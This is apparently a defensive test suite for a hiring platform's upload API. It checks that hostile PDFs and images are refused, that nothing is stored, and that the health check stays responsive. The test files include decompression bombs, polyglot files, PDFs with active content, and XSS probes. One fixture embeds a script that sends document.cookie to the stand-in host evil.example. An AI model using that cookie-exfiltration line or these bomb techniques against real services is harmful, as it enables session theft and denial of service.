// Hostile files over HTTP: a corpus made here with third-party tools — pdf-lib (documents with
// scripts, launch actions, embedded files, rich media, XFA; 10 000 pages), zlib (streams inflating to
// 2 GiB), sharp (images declaring 50 000 × 50 000 pixels, or more than their data holds; cut-off
// images), Node's crypto (a password-protected PDF) — uploaded by logged-in talents through the real
// API, CVs and the other uploads. Each must get a clear 4xx — a problem whose every message has a
// text in English and German — within a deadline, nothing of it stored, while a probe asks
// /healthz every 100 ms and every probe is answered. Nothing here is random.
//
// On the embedded database only: the files never reach the database, and PGlite's thread shares the
// process with the PDF workers and the event loop under test, the deployment where a busy process
// hurts most.
import type { components } from '@talent/api-client';
import { loadCatalog } from '@talent/i18n';
import { eq } from 'drizzle-orm';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { files } from '../src/db/schema.ts';
import { directAccount, inTenant } from './accountData.ts';
import { DB_KIND, multipartBody, rawRequest, startTestServer } from './harness.ts';
import type { CallResult, TestServer } from './harness.ts';
import { declaredSize, picture } from './images.ts';
import {
  ACTIVE_CONTENT,
  activePdf,
  deepBombPdf,
  encryptedPdf,
  manyPagesPdf,
  objectStreamBombPdf,
  textPdf,
} from './pdfs.ts';

type Problem = components['schemas']['Problem'];

/** The longest an upload may take to be refused (the PDF time limit is 10 s; files here wait for no other). */
const DEADLINE_MS = 20_000;
/** How often /healthz is asked meanwhile, and how long one probe may take before it counts as unanswered. */
const PROBE_EVERY_MS = 100;
const PROBE_DEADLINE_MS = 5_000;
const GiB = 1024 ** 3;

/** Where a file is uploaded: as a CV, or as a resource of a kind. */
type Target = { readonly cv: true } | { readonly kind: 'COVER_LETTER' | 'DOCUMENT' | 'PROFILE_IMAGE' };
const CV: Target = { cv: true };

/** A hostile file, where it is sent, and the refusal it must get. */
interface Hostile {
  readonly name: string;
  readonly data: Buffer;
  readonly to: readonly Target[];
  readonly status: number;
  readonly message: string;
}

let server: TestServer;
let filesDir: string;
let english: Record<string, string>;
let german: Record<string, string>;
let cv: Buffer;

beforeAll(async () => {
  filesDir = mkdtempSync(join(tmpdir(), 'talent-hostile-'));
  server = await startTestServer({ env: { FILES_DIR: filesDir } });
  [english, german, cv] = await Promise.all([loadCatalog('en'), loadCatalog('de'), textPdf(2, 10)]);
});
afterAll(async () => {
  await server?.close();
  if (filesDir) rmSync(filesDir, { recursive: true, force: true });
});

/** Rejects when `work` takes longer than `ms` (the deadline is the assertion, not a pause). */
async function within<T>(ms: number, what: string, work: Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms`)), ms);
  });
  try {
    return await Promise.race([work, late]);
  } finally {
    clearTimeout(timer);
  }
}

/**
 * Runs `work` while /healthz is asked every PROBE_EVERY_MS; resolves once every probe has been
 * answered or timed out, with how many were sent and how many answered 200.
 */
async function whileProbing(work: () => Promise<void>): Promise<{ sent: number; answered: number }> {
  let sent = 0;
  let answered = 0;
  const probes: Promise<void>[] = [];
  const probe = () => {
    sent++;
    probes.push(
      within(PROBE_DEADLINE_MS, '/healthz', rawRequest(server.url, { method: 'GET', path: '/healthz' })).then(
        (response) => {
          if (response.status === 200) answered++;
        },
        () => {},
      ),
    );
  };
  probe();
  const timer = setInterval(probe, PROBE_EVERY_MS);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  await Promise.all(probes);
  return { sent, answered };
}

/** Every file (temporary ones included) under the storage directory. */
const storedFiles = () =>
  readdirSync(filesDir, { recursive: true, encoding: 'utf8' }).filter((path) =>
    statSync(join(filesDir, path)).isFile(),
  );

let accounts = 0;

/** Uploads the file to one target as a new talent of its own (uploads are limited per talent). */
async function upload(file: Hostile, to: Target): Promise<{ response: CallResult<Problem>; freelancerId: number }> {
  const talent = await directAccount(server, 'alpha', `hostile-${++accounts}@example.com`);
  const body = await multipartBody([
    { name: 'cv' in to ? 'file' : 'resource', data: file.data, filename: 'cv.pdf', contentType: 'application/pdf' },
  ]);
  const call =
    'cv' in to
      ? server.call<Problem>('uploadCv', { token: talent.token, rawBody: body })
      : server.call<Problem>('uploadResource', { token: talent.token, query: { kind: to.kind }, rawBody: body });
  return { response: await within(DEADLINE_MS, file.name, call), freelancerId: talent.id };
}

/** Uploads each file to each of its targets, one after another, and checks each refusal and /healthz meanwhile. */
async function expectRefused(corpus: readonly Hostile[]): Promise<void> {
  const before = storedFiles();
  const outcomes: { name: string; to: string; status: number; messages: readonly string[]; ms: number }[] = [];
  const freelancers: number[] = [];
  const probes = await whileProbing(async () => {
    for (const file of corpus) {
      for (const to of file.to) {
        const started = performance.now();
        const { response, freelancerId } = await upload(file, to);
        freelancers.push(freelancerId);
        const where = `${file.name} → ${'cv' in to ? 'uploadCv' : to.kind}`;
        outcomes.push({
          name: file.name,
          to: 'cv' in to ? 'uploadCv' : to.kind,
          status: response.status,
          messages: response.body.messages,
          ms: Math.round(performance.now() - started),
        });
        expect(response.headers['content-type'], where).toMatch(/^application\/problem\+json/);
        expect({ status: response.status, messages: response.body.messages }, where).toEqual({
          status: file.status,
          messages: [file.message],
        });
        for (const id of response.body.messages) {
          expect(english[`api.${id}`], `${where}: English text of ${id}`).toEqual(expect.any(String));
          expect(german[`api.${id}`], `${where}: German text of ${id}`).toEqual(expect.any(String));
        }
      }
    }
  });
  // What each file got and how long it took, for the log of a failing run.
  console.info(outcomes.map((o) => `${o.status} ${o.messages.join(',')} ${o.ms} ms  ${o.name} → ${o.to}`).join('\n'));
  expect(probes.answered, `/healthz probes answered of ${probes.sent} sent`).toBe(probes.sent);
  expect(probes.sent).toBeGreaterThan(1);
  // Nothing of a refused file stays: no content (not even a temporary one), no row.
  expect(storedFiles()).toEqual(before);
  for (const id of freelancers) {
    expect(await inTenant(server, 'alpha', (tx) => tx.select().from(files).where(eq(files.freelancerId, id)))).toEqual(
      [],
    );
  }
}

const allPdfTargets: readonly Target[] = [CV, { kind: 'COVER_LETTER' }, { kind: 'DOCUMENT' }];

describe.runIf(DB_KIND === 'pglite')('hostile files', () => {
  it('refuses cut-off, password-protected and polyglot PDFs', async () => {
    const html = Buffer.from(
      '<!DOCTYPE html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script>\n',
    );
    const png = await picture(64, 64).png().toBuffer();
    await expectRefused([
      {
        name: 'a PDF cut in half',
        data: cv.subarray(0, cv.length >> 1),
        to: allPdfTargets,
        status: 415,
        message: 'file.pdfUnreadable',
      },
      {
        name: 'a PDF cut at 80 % with its end marker put back',
        data: Buffer.concat([cv.subarray(0, Math.floor(cv.length * 0.8)), Buffer.from('\n%%EOF\n')]),
        to: [CV],
        status: 415,
        message: 'file.pdfUnreadable',
      },
      {
        name: 'a PDF that needs a password (AES-256)',
        data: encryptedPdf('Curriculum vitae', { user: 'secret', owner: 'owner' }),
        to: allPdfTargets,
        status: 415,
        message: 'file.pdfEncrypted',
      },
      {
        name: 'an HTML page with a PDF behind it',
        data: Buffer.concat([html, cv]),
        to: allPdfTargets,
        status: 415,
        message: 'file.pdfRequired',
      },
      {
        name: 'a PNG with a PDF behind it',
        data: Buffer.concat([png, cv]),
        to: [CV],
        status: 415,
        message: 'file.pdfRequired',
      },
      {
        name: 'a PDF sent as a profile image',
        data: cv,
        to: [{ kind: 'PROFILE_IMAGE' }],
        status: 415,
        message: 'file.imageRequired',
      },
    ]);
  });

  it('refuses PDFs carrying active content, wherever it hangs', async () => {
    const corpus: Hostile[] = [];
    for (const kind of ACTIVE_CONTENT) {
      corpus.push({
        name: `a CV with active content: ${kind}`,
        data: await activePdf(kind),
        // The scripts run on opening also as a cover letter or a document; the rest as a CV.
        to: kind === 'openActionScript' || kind === 'launch' ? allPdfTargets : [CV],
        status: 415,
        message: 'file.pdfActiveContent',
      });
    }
    await expectRefused(corpus);
    // The same CV with a web link and a bookmark instead is stored.
    const talent = await directAccount(server, 'alpha', 'linked@example.com');
    const linked = await server.call('uploadCv', {
      token: talent.token,
      rawBody: await multipartBody([{ name: 'file', data: await activePdf('links'), filename: 'cv.pdf' }]),
    });
    expect(linked.status).toBe(201);
  });

  // Each of these takes a worker to its limits (about 2 s each here, more on a busy machine).
  it(
    'refuses PDFs that are too much to read: 10 000 pages, streams inflating to 2 GiB',
    { timeout: 60_000 },
    async () => {
      const [pages, bomb, objectBomb] = await Promise.all([
        manyPagesPdf(10_000),
        deepBombPdf(2 * GiB),
        objectStreamBombPdf(2 * GiB),
      ]);
      expect(bomb.length).toBeLessThan(5000);
      await expectRefused([
        {
          name: '10 000 pages',
          data: pages,
          to: [CV, { kind: 'DOCUMENT' }],
          status: 413,
          message: 'file.pdfTooComplex',
        },
        { name: 'a page inflating to 2 GiB', data: bomb, to: [CV], status: 413, message: 'file.pdfTooComplex' },
        {
          name: 'an object stream inflating to 2 GiB',
          data: objectBomb,
          to: [{ kind: 'COVER_LETTER' }],
          status: 413,
          message: 'file.pdfTooComplex',
        },
      ]);
    },
  );

  it('refuses image bombs, images whose header lies about their size, cut-off images and scripts posing as images', async () => {
    const image = { kind: 'PROFILE_IMAGE' } as const;
    const [png, jpeg, webp, small] = await Promise.all([
      picture(300, 200).png().toBuffer(),
      picture(300, 200).jpeg().toBuffer(),
      picture(300, 200).webp().toBuffer(),
      picture(16, 16).png().toBuffer(),
    ]);
    const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
    const refused = (name: string, data: Buffer, status: number, message: string): Hostile => ({
      name,
      data,
      to: [image],
      status,
      message,
    });
    await expectRefused([
      // A few hundred bytes declaring 2.5 gigapixels (about 7.5 GB decoded).
      refused('a PNG declaring 50 000 × 50 000', declaredSize(small, 50_000, 50_000), 413, 'file.imageTooManyPixels'),
      refused('a JPEG declaring 50 000 × 50 000', declaredSize(jpeg, 50_000, 50_000), 413, 'file.imageTooManyPixels'),
      refused('a WebP declaring 16 383 × 16 383', declaredSize(webp, 16_383, 16_383), 413, 'file.imageTooManyPixels'),
      // Within the pixel limit, but the data ends before the declared image does.
      refused('a PNG declaring 600 × 400 of its 300 × 200', declaredSize(png, 600, 400), 415, 'file.imageUnreadable'),
      refused('a JPEG declaring 600 × 400 of its 300 × 200', declaredSize(jpeg, 600, 400), 415, 'file.imageUnreadable'),
      refused('a WebP declaring 600 × 400 of its 300 × 200', declaredSize(webp, 600, 400), 415, 'file.imageUnreadable'),
      refused('a PNG cut at 80 %', cut(png, 0.8), 415, 'file.imageUnreadable'),
      refused('a JPEG cut at 60 %', cut(jpeg, 0.6), 415, 'file.imageUnreadable'),
      refused('a WebP cut at 60 %', cut(webp, 0.6), 415, 'file.imageUnreadable'),
      refused(
        'an SVG with a script',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        415,
        'file.imageRequired',
      ),
      refused('an HTML page', Buffer.from('<html><script>alert(1)</script></html>'), 415, 'file.imageRequired'),
    ]);
  });
});
